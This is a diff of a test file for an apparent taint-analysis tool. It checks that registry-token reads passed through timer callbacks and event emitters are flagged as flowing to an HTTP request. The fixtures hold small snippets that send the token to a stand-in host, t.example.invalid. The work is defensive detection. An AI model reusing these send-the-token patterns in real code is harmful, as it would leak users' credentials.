@@ -35,6 +35,23 @@ describe("indirect calls of a sending API", () => {
   });
 });
 
+describe("timers pass their extra arguments to the callback", () => {
+  const SEND = "function send(d) { https.request('https://t.example.invalid/x').end(d); }\n";
+  it.each([
+    ["setTimeout(fn, delay, arg)", `setTimeout(send, 10, ${READ});`],
+    ["setInterval(fn, delay, arg)", `setInterval(send, 10, ${READ});`],
+    ["setImmediate(fn, arg)", `setImmediate(send, ${READ});`],
+    ["process.nextTick(fn, arg)", `process.nextTick(send, ${READ});`],
+  ])("%s", async (_name, code) => {
+    expect(await flowsOf(SEND + code)).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
+  });
+
+  it("a delay is not an argument, and queueMicrotask passes none", async () => {
+    expect(await flowsOf(SEND + `setTimeout(send, ${READ}.length);`)).toEqual([]);
+    expect(await flowsOf(SEND + `queueMicrotask(send, ${READ});`)).toEqual([]);
+  });
+});
+
 describe("data carried by events, lines and URLs", () => {
   it("emit() reaches the listeners registered with on()", async () => {
     const flows = await flowsOf(`const E = require('events'); const e = new E();\ne.on('d', (x) => https.request('https://t.example.invalid/x').end(x));\ne.emit('d', ${READ});`);
